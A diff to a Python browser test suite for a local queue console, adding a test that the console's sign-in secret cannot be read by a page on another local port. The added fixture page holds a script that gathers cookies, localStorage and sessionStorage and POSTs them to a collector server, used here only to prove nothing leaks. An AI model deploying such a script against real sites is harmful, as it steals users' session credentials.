@@ -6,8 +6,10 @@ from __future__ import annotations
 
 import json
 import shutil
+import threading
 import time
 from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
@@ -23,6 +25,7 @@ from dq.metrics import MetricsReader
 from dq.targets import HttpTarget, TargetError
 from tests.cloudwatch import cloudwatch_client, emf_records, moto_cloudwatch, put_emf
 from tests.console.conftest import AXE, SCREENSHOTS
+from tests.console.test_security import request
 
 WAIT_SECONDS = 15
 SERIOUS = ("serious", "critical")
@@ -101,7 +104,7 @@ def screenshot(browser: WebDriver, name: str) -> None:
 
 @pytest.fixture(scope="module")
 def signed_in(browser: WebDriver, console: ConsoleServer) -> WebDriver:
-    """The printed URL once: the secret becomes a cookie and leaves the address bar."""
+    """The printed URL once: the page keeps the secret for its tab and takes it out of the address bar."""
     browser.get(console.url)
     loaded(browser, "queues")
     assert "token" not in browser.current_url
@@ -442,8 +445,81 @@ def test_the_private_page_of_open_leads_the_browser_to_the_console_signed_in(
             # The queues view writes its route into the fragment (`#/`) as soon as it renders.
             until(browser, lambda d: d.current_url.split("#")[0] == f"{console.origin}/", "the console's own address")
             loaded(browser, "queues")
+            assert console.token not in browser.current_url
         finally:
             shutil.rmtree(page.parent)
+
+
+# A page of another local user's server, on another port of 127.0.0.1: to a browser the same site as the console.
+# It sends one request to its own server with everything its script can read of cookies and storage.
+ELSEWHERE_PAGE = b"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>elsewhere</title></head><body>
+<script>
+const seen = { cookie: document.cookie, local: { ...localStorage }, session: { ...sessionStorage } };
+fetch("/collect", { method: "POST", credentials: "include", body: JSON.stringify(seen) })
+  .then(() => { document.title = "collected"; });
+</script></body></html>
+"""
+
+
+class Elsewhere:
+    """A plain HTTP server on its own 127.0.0.1 port that answers every request with `ELSEWHERE_PAGE` and keeps
+    each request as it came: its line, every header (Cookie included) and its body."""
+
+    def __init__(self) -> None:
+        self.received: list[tuple[str, list[tuple[str, str]], bytes]] = []
+        received = self.received
+
+        class Recorder(BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def _record(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(length) if length else b""
+                received.append((self.requestline, list(self.headers.items()), body))
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.send_header("Content-Length", str(len(ELSEWHERE_PAGE)))
+                self.end_headers()
+                self.wfile.write(ELSEWHERE_PAGE)
+
+            do_GET = do_POST = _record
+
+            def log_message(self, format: str, *args: Any) -> None:
+                """Silent: the test reads `received`."""
+
+        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+        self.origin = f"http://127.0.0.1:{self._http.server_address[1]}"
+
+    def __enter__(self) -> Elsewhere:
+        threading.Thread(target=self._http.serve_forever, daemon=True).start()
+        return self
+
+    def __exit__(self, *_exc: object) -> None:
+        self._http.shutdown()
+        self._http.server_close()
+
+
+def test_a_page_on_another_local_port_learns_nothing_of_the_console(browser: WebDriver, console: ConsoleServer) -> None:
+    """Cookies ignore the port, so a cookie of the console's would go with every request to any other server on
+    127.0.0.1: the secret lives in the console's own page and goes out in a header, to the console alone."""
+    sign_in(browser, console)
+    browser.refresh()
+    wait_text(browser, "#target", f"API: {console.target.name}")  # a reload keeps the page signed in
+    assert browser.get_cookies() == []
+    with Elsewhere() as elsewhere:
+        browser.get(f"{elsewhere.origin}/")
+        until(browser, lambda d: d.title == "collected", "the page elsewhere to send what it read")
+    asked = {tuple(line.split()[:2]): body for line, _, body in elsewhere.received}
+    assert {("GET", "/"), ("POST", "/collect")} <= set(asked)  # the browser may ask for a favicon too
+    seen = json.loads(asked["POST", "/collect"])
+    assert seen == {"cookie": "", "local": {}, "session": {}}
+    everything = repr(elsewhere.received)
+    assert console.token not in everything and "dq_console" not in everything
+    for _, headers, _ in elsewhere.received:
+        replayed = {name: value for name, value in headers if name.lower() not in ("host", "content-length")}
+        for path in ("/api/info", "/api/queues", f"/api/metrics?queue={CHARTED}&minutes=60"):
+            status = request(console, "GET", path, replayed)[0]
+            assert status == 403, (path, status)
 
 
 ROWS = "#messages tr[data-message]"
@@ -478,7 +554,7 @@ def test_an_operator_delays_filters_cancels_and_redrives(
     queue, client, sent = "controls", "tenant-b", []
 
     api.create_queue(queue, {})
-    browser.get(console.url)  # the secret, once: a cookie from now on
+    browser.get(console.url)  # the secret, once: this tab's page keeps it from now on
 
     # Sends: now, after a delay, at a given time.
     visit(browser, console, f"#/q/{queue}/c/{client}", "client")
